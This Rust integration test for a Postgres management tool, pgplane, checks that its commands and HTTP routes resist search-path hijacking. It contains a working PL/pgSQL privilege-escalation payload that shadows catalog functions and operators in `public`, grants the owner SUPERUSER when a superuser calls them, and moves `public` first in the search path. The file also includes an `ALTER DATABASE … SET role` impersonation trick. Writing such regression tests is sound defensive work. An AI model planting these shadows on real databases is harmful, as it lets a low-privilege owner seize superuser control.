//! Issue 11, class 1: search-path hijacking (the CVE-2018-1058 class). A module owner owns
//! its database and that database's `public` schema; in it, it plants shadows of what
//! pgplane's catalog queries call (operators on `name`/`text`/`oid`/`"char"`, LIKE and regex
//! operators, `col_description`, `format_type`, `pg_get_*def`, `acldefault`, `aclexplode`,
//! `array_to_string`, `quote_ident`, `lower`, `set_config`, a cast …) and puts `public` before
//! `pg_catalog` in its database's `search_path`. Each shadow returns the right answer, and
//! when a superuser calls it (or a session that logged in as one and `SET ROLE` to the
//! owner: it tries `RESET ROLE` first) it makes the owner SUPERUSER and notes itself in the
//! owner's comment. Then every read and write path of pgplane runs against it, and after
//! each one the owner must still not be a superuser.

#![allow(clippy::unwrap_used)]

mod common;

use std::process::{Command, Stdio};

use common::{Run, MASTER, T};

const READ: &str = "read-token-sp-0123456789abcdef";
const ADMIN: &str = "admin-token-sp-0123456789abcdef";

/// Shadowed functions: (name, arguments, result, the real call).
const FUNCTIONS: &[(&str, &str, &str, &str)] = &[
    ("col_description", "oid, smallint", "text", "pg_catalog.col_description($1, $2)"),
    ("col_description", "oid, integer", "text", "pg_catalog.col_description($1, $2)"),
    ("format_type", "oid, integer", "text", "pg_catalog.format_type($1, $2)"),
    ("format_type", "oid, text", "text", "pg_catalog.format_type($1, $2::int4)"),
    ("obj_description", "oid, name", "text", "pg_catalog.obj_description($1, $2)"),
    ("obj_description", "oid, text", "text", "pg_catalog.obj_description($1, $2::name)"),
    ("shobj_description", "oid, text", "text", "pg_catalog.shobj_description($1, $2::name)"),
    ("pg_get_indexdef", "oid", "text", "pg_catalog.pg_get_indexdef($1)"),
    ("pg_get_constraintdef", "oid, boolean", "text", "pg_catalog.pg_get_constraintdef($1, $2)"),
    ("pg_get_triggerdef", "oid", "text", "pg_catalog.pg_get_triggerdef($1)"),
    ("pg_get_viewdef", "oid, boolean", "text", "pg_catalog.pg_get_viewdef($1, $2)"),
    ("pg_get_expr", "pg_node_tree, oid", "text", "pg_catalog.pg_get_expr($1, $2)"),
    ("pg_get_expr", "pg_node_tree, oid, boolean", "text", "pg_catalog.pg_get_expr($1, $2, $3)"),
    ("pg_get_partkeydef", "oid", "text", "pg_catalog.pg_get_partkeydef($1)"),
    ("pg_get_userbyid", "oid", "name", "pg_catalog.pg_get_userbyid($1)"),
    ("acldefault", "text, oid", "aclitem[]", "pg_catalog.acldefault($1::\"char\", $2)"),
    ("acldefault", "\"char\", oid", "aclitem[]", "pg_catalog.acldefault($1, $2)"),
    ("array_to_string", "anyarray, text", "text", "pg_catalog.array_to_string($1, $2)"),
    ("array_to_string", "text[], text", "text", "pg_catalog.array_to_string($1, $2)"),
    ("quote_ident", "text", "text", "pg_catalog.quote_ident($1)"),
    ("lower", "text", "text", "pg_catalog.lower($1)"),
    ("lower", "character varying", "text", "pg_catalog.lower($1::text)"),
    ("pg_total_relation_size", "oid", "bigint", "pg_catalog.pg_total_relation_size($1::regclass)"),
    ("pg_database_size", "oid", "bigint", "pg_catalog.pg_database_size($1)"),
    ("set_config", "text, text, boolean", "text", "pg_catalog.set_config($1, $2, $3)"),
    ("current_setting", "text", "text", "pg_catalog.current_setting($1)"),
    ("to_regclass", "text", "regclass", "pg_catalog.to_regclass($1)"),
    ("format", "text, text, text", "text", "pg_catalog.format($1, $2, $3)"),
    ("hashtext", "text", "integer", "pg_catalog.hashtext($1)"),
    ("now", "", "timestamptz", "pg_catalog.now()"),
    ("clock_timestamp", "", "timestamptz", "pg_catalog.clock_timestamp()"),
    ("to_char", "timestamptz, text", "text", "pg_catalog.to_char($1, $2)"),
    ("to_char", "timestamp, text", "text", "pg_catalog.to_char($1, $2)"),
    ("has_table_privilege", "oid, oid, text", "boolean", "pg_catalog.has_table_privilege($1, $2, $3)"),
    ("pg_try_advisory_lock", "integer, integer", "boolean", "pg_catalog.pg_try_advisory_lock($1, $2)"),
    ("pg_backend_pid", "", "integer", "pg_catalog.pg_backend_pid()"),
    ("md5", "text", "text", "pg_catalog.md5($1)"),
];

/// Shadowed operators: (operator, left, right, result).
const OPERATORS: &[(&str, &str, &str, &str)] = &[
    ("=", "name", "name", "boolean"),
    ("=", "name", "text", "boolean"),
    ("<>", "name", "name", "boolean"),
    ("=", "text", "text", "boolean"),
    ("<>", "text", "text", "boolean"),
    ("=", "oid", "integer", "boolean"),
    ("=", "\"char\"", "\"char\"", "boolean"),
    (">=", "name", "name", "boolean"),
    ("<", "name", "name", "boolean"),
    (">", "smallint", "integer", "boolean"),
    ("~", "name", "name", "boolean"),
    ("~", "name", "text", "boolean"),
    ("!~", "name", "name", "boolean"),
    ("!~", "name", "text", "boolean"),
    ("~~", "name", "name", "boolean"),
    ("~~", "name", "text", "boolean"),
    ("!~~", "name", "name", "boolean"),
    ("!~~", "name", "text", "boolean"),
    ("||", "name", "name", "text"),
    ("||", "text", "text", "text"),
];

/// What the owner plants in a database's `public` schema.
fn plant(owner: &str) -> String {
    let mut sql = format!(
        "CREATE FUNCTION public.pwn(what text) RETURNS void LANGUAGE plpgsql
           SET search_path = pg_catalog, pg_temp AS $f$
         DECLARE seen text; hit text;
         BEGIN
           IF session_user = current_user AND NOT (SELECT rolsuper FROM pg_roles WHERE rolname = session_user) THEN
             RETURN;
           END IF;
           -- Logged in as a superuser and SET ROLE to us? Step back up.
           BEGIN RESET ROLE; EXCEPTION WHEN OTHERS THEN NULL; END;
           IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
             -- Sessions running in parallel may race on the role's row: never fail the caller.
             BEGIN
               EXECUTE format('ALTER ROLE %I SUPERUSER', '{owner}');
               -- A trace that outlives the owner (destroy drops it).
               BEGIN EXECUTE format('CREATE ROLE %I', '{owner}_pwned'); EXCEPTION WHEN OTHERS THEN NULL; END;
               seen := coalesce((SELECT shobj_description(oid, 'pg_authid') FROM pg_roles WHERE rolname = '{owner}'), '');
               hit := what || ' in ' || current_database() || ' by ' || session_user;
               IF position(hit IN seen) = 0 THEN
                 EXECUTE format('COMMENT ON ROLE %I IS %L', '{owner}', CASE WHEN seen = '' THEN hit ELSE seen || '; ' || hit END);
               END IF;
             EXCEPTION WHEN OTHERS THEN NULL;
             END;
           END IF;
         END $f$;
         CREATE FUNCTION public.pwn_true(what text) RETURNS boolean LANGUAGE plpgsql
           SET search_path = pg_catalog, pg_temp AS $f$ BEGIN PERFORM public.pwn(what); RETURN true; END $f$;
         CREATE FUNCTION public.pwn_trigger() RETURNS trigger LANGUAGE plpgsql
           SET search_path = pg_catalog, pg_temp AS $f$ BEGIN PERFORM public.pwn('trigger on ' || TG_TABLE_NAME); RETURN NEW; END $f$;
         CREATE TYPE public.mood AS ENUM ('ok');
         CREATE FUNCTION public.mood_text(public.mood) RETURNS text LANGUAGE plpgsql
           SET search_path = pg_catalog, pg_temp AS $f$ BEGIN PERFORM public.pwn('cast mood AS text'); RETURN 'ok'; END $f$;
         CREATE CAST (public.mood AS text) WITH FUNCTION public.mood_text(public.mood) AS IMPLICIT;
         CREATE TABLE public.moods (m public.mood DEFAULT 'ok');
         COMMENT ON COLUMN public.moods.m IS 'planted';\n"
    );
    for (name, args, result, real) in FUNCTIONS {
        sql.push_str(&format!(
            "CREATE FUNCTION public.{name}({args}) RETURNS {result} LANGUAGE plpgsql
               SET search_path = pg_catalog, pg_temp AS $f$
             BEGIN PERFORM public.pwn('{what}'); RETURN {real}; END $f$;\n",
            what = format!("{name}({args})").replace('\'', "''"),
        ));
    }
    sql.push_str(
        "CREATE FUNCTION public.unnest(smallint[]) RETURNS SETOF smallint LANGUAGE plpgsql
           SET search_path = pg_catalog, pg_temp AS $f$
         BEGIN PERFORM public.pwn('unnest(smallint[])'); RETURN QUERY SELECT pg_catalog.unnest($1); END $f$;
         CREATE FUNCTION public.aclexplode(aclitem[])
           RETURNS TABLE (grantor oid, grantee oid, privilege_type text, is_grantable boolean) LANGUAGE plpgsql
           SET search_path = pg_catalog, pg_temp AS $f$
         BEGIN PERFORM public.pwn('aclexplode(aclitem[])'); RETURN QUERY SELECT * FROM pg_catalog.aclexplode($1); END $f$;\n",
    );
    for (i, (op, left, right, result)) in OPERATORS.iter().enumerate() {
        sql.push_str(&format!(
            "CREATE FUNCTION public.shadow_op_{i}({left}, {right}) RETURNS {result} LANGUAGE plpgsql
               SET search_path = pg_catalog, pg_temp AS $f$
             BEGIN PERFORM public.pwn('operator {op}({left}, {right})');
                   RETURN $1::{cast_left} OPERATOR(pg_catalog.{op}) $2::{cast_right}; END $f$;
             CREATE OPERATOR public.{op} (LEFTARG = {left}, RIGHTARG = {right}, FUNCTION = public.shadow_op_{i});\n",
            cast_left = if *op == "||" { "text" } else { left },
            cast_right = if *op == "||" { "text" } else { right },
        ));
    }
    sql
}

/// Makes `public` come before `pg_catalog` for every session in the current database (the
/// owner of a database may do this).
const PATH_FIRST: &str = "DO $$ BEGIN
    EXECUTE pg_catalog.format('ALTER DATABASE %I SET search_path = public, pg_catalog', pg_catalog.current_database());
END $$;";

/// psql as the admin in `db`, with a search path nothing writable is on (the test itself
/// must not trip the shadows).
fn admin_sql(t: &T, db: &str, sql: &str) -> String {
    psql_as(&common::with_db(&t.server.url, db), sql, true)
}

fn psql_as(url: &str, sql: &str, secure: bool) -> String {
    let mut cmd = Command::new("psql");
    cmd.args([url, "-X", "-At", "-v", "ON_ERROR_STOP=1", "-c", sql]).stdin(Stdio::null());
    if secure {
        cmd.env("PGOPTIONS", "-c search_path=");
    }
    let out = cmd.output().expect("run psql");
    assert!(out.status.success(), "psql failed: {}\nSQL: {sql}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

/// Runs every path and notes the ones after which the owner was a superuser (the shadows
/// that ran, from the owner's comment) and the ones that failed.
struct Audit<'t> {
    t: &'t T,
    owner: String,
    escalated: Vec<String>,
    failed: Vec<String>,
}

impl Audit<'_> {
    /// Runs one path; `ok` says whether it did what it should.
    fn step(&mut self, name: &str, ok: impl FnOnce() -> Result<(), String>) {
        if let Err(e) = ok() {
            self.failed.push(format!("{name}: {e}"));
        }
        let state = admin_sql(
            self.t,
            "postgres",
            &format!(
                "SELECT rolsuper || '|' || coalesce(shobj_description(oid, 'pg_authid'), '') FROM pg_authid WHERE rolname = '{}'",
                self.owner
            ),
        );
        if let Some(how) = state.strip_prefix("true|") {
            self.escalated.push(format!("{name}: {how}"));
            // Sessions of the step may still be finishing a shadow: retry on a concurrent update.
            let sql = format!("ALTER ROLE \"{0}\" NOSUPERUSER; COMMENT ON ROLE \"{0}\" IS NULL", self.owner);
            let url = common::with_db(&self.t.server.url, "postgres");
            let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
            while let Err(e) = common::psql(&url, &sql) {
                assert!(std::time::Instant::now() < deadline, "could not take SUPERUSER back: {e}");
                std::thread::sleep(std::time::Duration::from_millis(100));
            }
        }
    }

    fn pgplane(&mut self, args: &[&str]) {
        let t = self.t;
        // Named without the manifest path and without URLs (they hold the admin's password).
        let name: Vec<&str> = args
            .iter()
            .map(|a| {
                if a.starts_with("postgresql://") {
                    "URL"
                } else if a.ends_with(".yaml") {
                    "M"
                } else {
                    a
                }
            })
            .collect();
        self.step(&name.join(" "), || expect_ok(t.pgplane(args)));
    }
}

fn expect_ok(r: Run) -> Result<(), String> {
    if r.code == 0 {
        Ok(())
    } else {
        Err(format!("exit {}: {}{}", r.code, r.stdout.chars().take(600).collect::<String>(), r.stderr))
    }
}

#[test]
fn shadows_planted_by_a_module_owner_never_run_as_the_admin() {
    let env = "sp";
    let owner = format!("{env}_app");
    let db = format!("{env}_app");
    let tpl = format!("{env}_tpl");
    let t = T::new(env);
    t.write("migrations/app/V1__items.sql", "CREATE TABLE items (id int PRIMARY KEY, name text);\n");
    t.write("model/master/changelog.yaml", MASTER);
    t.write("model/plant/V1__plant.sql", &plant(&owner));
    t.write(
        "model/cand/changelog.yaml",
        "databaseChangeLog:\n  - changeSet:\n      id: c1\n      author: bob\n      changes:\n        - addColumn:\n            tableName: entries\n            columns:\n              - column: {name: email, type: varchar(200)}\n",
    );
    let manifest = |extensions: &str| {
        t.manifest(&format!(
            "modules:
  - name: app
    storage: database
    readonly_role: true
    migrations: migrations/app{extensions}
templates:
  - name: {tpl}
    module: app
    sources: [model/master/changelog.yaml, model/plant]
branches:
  database: \"{{template}}_{{branch}}\"
  readonly_role: {env}_reader
"
        ))
    };
    let f = manifest("").to_str().unwrap().to_string();
    t.pgplane(&["apply", "-f", &f, "--yes"]).ok();
    let mut audit = Audit { t: &t, owner: owner.clone(), escalated: Vec::new(), failed: Vec::new() };

    // The template's sources plant the shadows (the module owner writes them).
    audit.pgplane(&["template", "build", &tpl, "-f", &f]);

    // The owner plants the same in its database, puts `public` first on its search path,
    // turns the ledger into a view that calls it (with a trigger underneath), and turns
    // `items` into a view that calls it too.
    let owner_url = t.credentials(&["-f", &f, "app"]);
    psql_as(&owner_url, &plant(&owner), false);
    psql_as(
        &owner_url,
        &format!(
            "{PATH_FIRST}
             ALTER TABLE public.pgplane_schema_history RENAME TO ledger_data;
             CREATE VIEW public.pgplane_schema_history AS SELECT * FROM public.ledger_data WHERE public.pwn_true('ledger view');
             CREATE TRIGGER pwn BEFORE INSERT ON public.ledger_data FOR EACH ROW EXECUTE FUNCTION public.pwn_trigger();
             ALTER TABLE public.items RENAME TO items_data;
             CREATE VIEW public.items AS SELECT * FROM public.items_data WHERE public.pwn_true('items view');"
        ),
        false,
    );
    // Planting alone escalates nothing.
    audit.step("planting (as the owner)", || Ok(()));
    t.write("migrations/app/V2__more.sql", "ALTER TABLE items_data ADD COLUMN more text;\n");

    audit.pgplane(&["plan", "-f", &f, "--deep"]);
    audit.pgplane(&["plan", "-f", &f]);
    audit.pgplane(&["status", "-f", &f, "--deep"]);
    audit.pgplane(&["status", "-f", &f]);
    // apply creates an extension in the planted `public` too (its script runs with
    // `public` on the path, after `pg_catalog`).
    manifest("\n    extensions: [pg_trgm]");
    audit.pgplane(&["apply", "-f", &f, "--yes"]);
    audit.pgplane(&["adopt", "-f", &f, "--yes"]);
    audit.pgplane(&["credentials", "-f", &f, "app"]);
    audit.pgplane(&["migrate", "status", "-f", &f]);
    audit.pgplane(&["migrate", "validate", "-f", &f]);
    audit.pgplane(&["migrate", "up", "-f", &f]);
    audit.pgplane(&[
        "wait",
        "-f",
        &f,
        "--module",
        "app",
        "--for",
        "server",
        "--for",
        &format!("database:{db}"),
        "--for",
        &format!("role:{owner}"),
        "--for",
        "sql:SELECT count(*) >= 0 FROM items",
        "--for",
        "migrated:app",
        "--timeout",
        "30s",
    ]);
    let admin_app_url = common::with_db(&t.server.url, &db);
    audit.pgplane(&[
        "wait",
        "--url",
        &admin_app_url,
        "--for",
        "server",
        "--for",
        &format!("database:{db}"),
        "--for",
        &format!("role:{owner}"),
        "--timeout",
        "30s",
    ]);
    audit.pgplane(&["schema", "tables", "--db", &db, "-f", &f]);
    audit.pgplane(&["schema", "describe", "moods", "--db", &db, "-f", &f]);
    audit.pgplane(&["schema", "describe", "items", "--db", &db, "-f", &f]);
    audit.pgplane(&["schema", "tables", "--url", &admin_app_url]);

    let branch_db = format!("{tpl}_b1");
    audit.pgplane(&["branch", "create", "b1", "--template", &tpl, "--source", "model/cand/changelog.yaml", "-f", &f]);
    let owner_branch_url = common::with_db(&owner_url, &branch_db);
    psql_as(&owner_branch_url, PATH_FIRST, false);
    audit.pgplane(&["branch", "list", "-f", &f]);
    audit.pgplane(&["branch", "show", "b1", "-f", &f]);
    audit.pgplane(&["schema", "tables", "--branch", "b1", "-f", &f]);
    audit.pgplane(&["schema", "describe", "entries", "--branch", "b1", "-f", &f]);
    audit.pgplane(&["schema", "diff", &format!("template:{tpl}"), "branch:b1", "-f", &f]);
    audit.pgplane(&["schema", "diff", &format!("db:{db}"), "branch:b1", "-f", &f]);
    audit.pgplane(&["branch", "reset", "b1", "-f", &f]);
    psql_as(&owner_branch_url, PATH_FIRST, false);

    // The HTTP routes a read token reaches.
    {
        let tokens = format!("read:{READ},admin:{ADMIN}");
        let serve = t.serve(&f, &[], &[("PGPLANE_TOKENS", tokens.as_str())]);
        for path in [
            "/api/v1/databases".to_string(),
            format!("/api/v1/databases/{db}/tables"),
            format!("/api/v1/databases/{db}/tables/moods"),
            format!("/api/v1/databases/{db}/tables/items"),
            "/api/v1/branches".to_string(),
            "/api/v1/branches/b1".to_string(),
            "/api/v1/branches/b1/tables".to_string(),
            "/api/v1/branches/b1/tables/entries".to_string(),
            "/api/v1/branches/b1/diff".to_string(),
            "/api/v1/operations".to_string(),
            "/readyz".to_string(),
            "/metrics".to_string(),
        ] {
            audit.step(&format!("GET {path}"), || {
                let r = serve.req("GET", &path, Some(READ), None);
                if r.status == 200 {
                    Ok(())
                } else {
                    Err(format!("{}: {}", r.status, r.body))
                }
            });
        }
        audit.step("POST /api/v1/plan", || {
            let r = serve.req("POST", "/api/v1/plan", Some(READ), Some("{\"deep\": true}"));
            if r.status == 200 {
                Ok(())
            } else {
                Err(format!("{}: {}", r.status, r.body))
            }
        });
    }

    audit.pgplane(&["branch", "delete", "b1", "-f", &f]);
    audit.pgplane(&["branch", "create", "b2", "--template", &tpl, "-f", &f]);
    audit.pgplane(&["branch", "gc", "--keep", "other", "-f", &f]);
    audit.pgplane(&["template", "build", &tpl, "-f", &f]);

    assert!(
        audit.escalated.is_empty(),
        "these paths ran a planted shadow as a superuser (the owner became SUPERUSER):\n  {}\nand these failed:\n  {}",
        audit.escalated.join("\n  "),
        audit.failed.join("\n  ")
    );
    assert!(audit.failed.is_empty(), "these paths failed:\n  {}", audit.failed.join("\n  "));
    // The trap works: an admin session with the database's own search path trips it.
    psql_as(&admin_app_url, "SELECT count(*) FROM pg_namespace WHERE nspname = 'public'", false);
    audit.step("the control: psql as the admin with the usual search path", || Ok(()));
    assert_eq!(audit.escalated.len(), 1, "{:?}", audit.escalated);
    assert!(audit.escalated[0].contains("operator =(name, name) in sp_app by postgres"), "{:?}", audit.escalated);
    assert_eq!(
        admin_sql(&t, &db, "SELECT extnamespace::regnamespace FROM pg_extension WHERE extname = 'pg_trgm'"),
        "public"
    );
    // The migration that was pending ran (through the owner's own view and trigger).
    assert_eq!(admin_sql(&t, &db, "SELECT count(*) FROM public.ledger_data WHERE version = '2' AND success"), "1");
}

/// A database's owner may `ALTER DATABASE … SET role = itself`; an admin session opened
/// there would then act with the owner's rights (its `CREATE SCHEMA … AUTHORIZATION` for
/// another tenant fails, its isolation revokes silently do nothing). pgplane's sessions
/// start with `role=none`.
#[test]
fn a_database_owner_cannot_make_admin_sessions_act_as_itself() {
    let env = "sprole";
    let t = T::new(env);
    let tenants = |names: &str| {
        t.manifest(&format!("modules:\n  - name: users\n    storage: schema-per-tenant\ntenants:\n{names}"))
    };
    let f = tenants("  - name: acme\n    modules: [users]\n");
    let f = f.to_str().unwrap().to_string();
    t.pgplane(&["apply", "-f", &f, "--yes"]).ok();
    let owner = format!("{env}_users");
    // Done with the owner's own rights (SET ROLE to it), as the owner itself could.
    admin_sql(&t, "postgres", &format!("SET ROLE \"{owner}\"; ALTER DATABASE \"{owner}\" SET role = '{owner}'"));
    assert_eq!(
        psql_as(&common::with_db(&t.server.url, &owner), "SELECT current_user", false),
        owner,
        "an admin session with the database's settings acts as its owner"
    );

    tenants("  - name: acme\n    modules: [users]\n  - name: beta\n    modules: [users]\n");
    t.pgplane(&["apply", "-f", &f, "--yes"]).ok();
    assert_eq!(
        admin_sql(&t, &owner, "SELECT pg_get_userbyid(nspowner) FROM pg_namespace WHERE nspname = 'beta_users'"),
        format!("{env}_beta_users")
    );
    assert!(t.pgplane(&["plan", "-f", &f]).ok().stdout.contains("No changes"), "apply left drift");
}

/// `wait --for sql:` runs as documented: as the module's owner with `-f --module`, as the
/// URL's user with its usual search path with `--url` (pgplane's own checks on that
/// connection still run with an empty one), as the admin with an empty path with `-f` alone.
#[test]
fn wait_runs_sql_as_the_owner_or_the_urls_user() {
    let env = "spwait";
    let t = T::new(env);
    let f = t.manifest("modules:\n  - name: app\n    storage: database\n");
    let f = f.to_str().unwrap().to_string();
    t.pgplane(&["apply", "-f", &f, "--yes"]).ok();
    let owner = format!("{env}_app");
    psql_as(&t.credentials(&["-f", &f, "app"]), "CREATE TABLE jobs (id int)", false);

    let who = format!("sql:SELECT current_user = '{owner}' AND session_user = '{owner}'");
    t.pgplane(&[
        "wait",
        "-f",
        &f,
        "--module",
        "app",
        "--for",
        &who,
        "--for",
        "sql:SELECT count(*) = 0 FROM jobs",
        "--timeout",
        "10s",
    ])
    .ok();
    let url = common::with_db(&t.server.url, &owner);
    let usual = "sql:SELECT pg_catalog.current_setting('search_path') = '\"$user\", public'";
    t.pgplane(&[
        "wait",
        "--url",
        &url,
        "--for",
        "server",
        "--for",
        usual,
        "--for",
        "sql:SELECT count(*) = 0 FROM jobs",
        "--timeout",
        "10s",
    ])
    .ok();
    t.pgplane(&[
        "wait",
        "-f",
        &f,
        "--for",
        "sql:SELECT pg_catalog.current_setting('search_path') = ''",
        "--timeout",
        "10s",
    ])
    .ok();
    let run = t.pgplane(&[
        "wait",
        "--url",
        &url,
        "--for",
        "sql:SELECT false",
        "--timeout",
        "500ms",
        "--diagnose-sql",
        "SHOW search_path",
        "--json",
    ]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert_eq!(run.json()["diagnostics"][0]["rows"][0][0], "\"$user\", public");
}

/// The surfaces merged after issue 11 (review of 2026-11-29): the tenant lifecycle,
/// events, `pgbouncer` (which reads `pg_authid`), `destroy` and the read routes of tenants,
/// events and stacks, against shadows the owner of a schema-per-tenant database planted
/// in its `public` (first on the database's search path).
#[test]
fn shadows_planted_by_a_module_owner_never_run_in_tenant_event_pooler_or_destroy_work() {
    let env = "spnew";
    let owner = format!("{env}_users");
    let db = owner.clone();
    let t = T::new(env);
    t.write("db/users/V1__items.sql", "CREATE TABLE items (id int PRIMARY KEY, name text);\n");
    t.write("db/users/V2__more.sql", "ALTER TABLE items ADD COLUMN more text;\n");
    let f = t
        .manifest(
            "modules:
  - name: users
    storage: schema-per-tenant
    migrations: db/users
    versions:
      - {version: \"1.0\", target: \"1\"}
      - {version: \"2.0\", target: \"2\"}
tenants:
  - name: listed
    modules: [users]
",
        )
        .to_str()
        .unwrap()
        .to_string();
    t.pgplane(&["apply", "-f", &f, "--yes"]).ok();
    // With the owner's own rights (SET ROLE to it), as the owner itself could.
    admin_sql(&t, &db, &format!("SET ROLE \"{owner}\";\n{}\n{PATH_FIRST}", plant(&owner)));
    let mut audit = Audit { t: &t, owner: owner.clone(), escalated: Vec::new(), failed: Vec::new() };
    audit.step("planting (as the owner)", || Ok(()));

    audit.pgplane(&["tenant", "add", "acme", "--module", "users@1.0", "-f", &f]);
    audit.pgplane(&["tenant", "list", "-f", &f]);
    audit.pgplane(&["tenant", "upgrade", "acme", "--module", "users@2.0", "-f", &f]);
    audit.pgplane(&["tenant", "upgrade", "--all", "--module", "users@2.0", "-f", &f]);
    audit.pgplane(&["tenant", "disable", "acme", "--yes", "-f", &f]);
    audit.pgplane(&["tenant", "enable", "acme", "-f", &f]);
    audit.pgplane(&["plan", "-f", &f]);
    audit.pgplane(&["status", "-f", &f]);
    let out = t.dir.join("bouncer");
    audit.pgplane(&["pgbouncer", "-f", &f, "--out", out.to_str().unwrap()]);

    // An event, consumed and run by a worker (tenant events are not consumed yet: the
    // consumer's job kinds lack the tenant lifecycle's).
    audit.pgplane(&[
        "events",
        "publish",
        "-f",
        &f,
        "--type",
        "module.requested",
        "--key",
        "users",
        "--id",
        "ev-users",
        "--data",
        r#"{"module": "users"}"#,
    ]);
    {
        let mut cmd = t.cmd();
        cmd.args(["consume", "-f", &f, "--workers", "1", "--grace", "5s"])
            .env("PGPLANE_EVENTS_TICK_MS", "300")
            .env("PGPLANE_JOB_POLL_MS", "200")
            .stdout(Stdio::null())
            .stderr(Stdio::null());
        let mut child = cmd.spawn().expect("spawn pgplane consume");
        audit.step("consume module.requested", || {
            let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
            loop {
                let got = admin_sql(&t, "pgplane", "SELECT COALESCE(max(outcome || ' ' || COALESCE(reason, '')), '') FROM pgplane.events WHERE event_id = 'ev-users'");
                if got.trim() == "succeeded" {
                    return Ok(());
                }
                if got.starts_with("dead_lettered") || std::time::Instant::now() > deadline {
                    return Err(format!("event outcome {got:?}"));
                }
                std::thread::sleep(std::time::Duration::from_millis(200));
            }
        });
        let _ = child.kill();
        let _ = child.wait();
    }
    audit.pgplane(&["events", "status", "-f", &f, "--json"]);

    {
        let tokens = format!("read:{READ},admin:{ADMIN}");
        let serve = t.serve(&f, &[], &[("PGPLANE_TOKENS", tokens.as_str())]);
        for path in [
            "/api/v1/tenants",
            "/api/v1/tenants/acme",
            "/api/v1/events",
            "/api/v1/events/status",
            "/api/v1/events/summary",
            "/api/v1/stacks",
            "/api/v1/databases",
            "/metrics",
        ] {
            audit.step(&format!("GET {path}"), || {
                let r = serve.req("GET", path, Some(READ), None);
                if r.status == 200 {
                    Ok(())
                } else {
                    Err(format!("{}: {}", r.status, r.body))
                }
            });
        }
    }

    // The trap works: an admin session with the database's own search path trips it.
    psql_as(&common::with_db(&t.server.url, &db), "SELECT count(*) FROM pg_namespace WHERE nspname = 'public'", false);
    audit.step("the control: psql as the admin with the usual search path", || Ok(()));
    assert_eq!(audit.escalated.len(), 1, "{:?}\nfailed: {:?}", audit.escalated, audit.failed);
    assert!(audit.escalated[0].starts_with("the control"), "{:?}", audit.escalated);
    audit.escalated.clear();
    admin_sql(&t, "postgres", &format!("DROP ROLE \"{owner}_pwned\""));

    audit.pgplane(&["tenant", "add", "beta", "--module", "users", "-f", &f]);
    audit.pgplane(&["tenant", "remove", "beta", "--purge", "--yes", "-f", &f]);
    audit.pgplane(&["destroy", "--env", env, "-f", &f, "--yes"]);

    assert!(
        audit.escalated.is_empty(),
        "these paths ran a planted shadow as a superuser (the owner became SUPERUSER):\n  {}\nand these failed:\n  {}",
        audit.escalated.join("\n  "),
        audit.failed.join("\n  ")
    );
    assert!(audit.failed.is_empty(), "these paths failed:\n  {}", audit.failed.join("\n  "));
    assert_eq!(admin_sql(&t, "postgres", &format!("SELECT count(*) FROM pg_database WHERE datname = '{db}'")), "0");
    assert_eq!(
        admin_sql(&t, "postgres", &format!("SELECT count(*) FROM pg_roles WHERE rolname = '{owner}_pwned'")),
        "0",
        "a planted shadow ran as a superuser during destroy"
    );
}
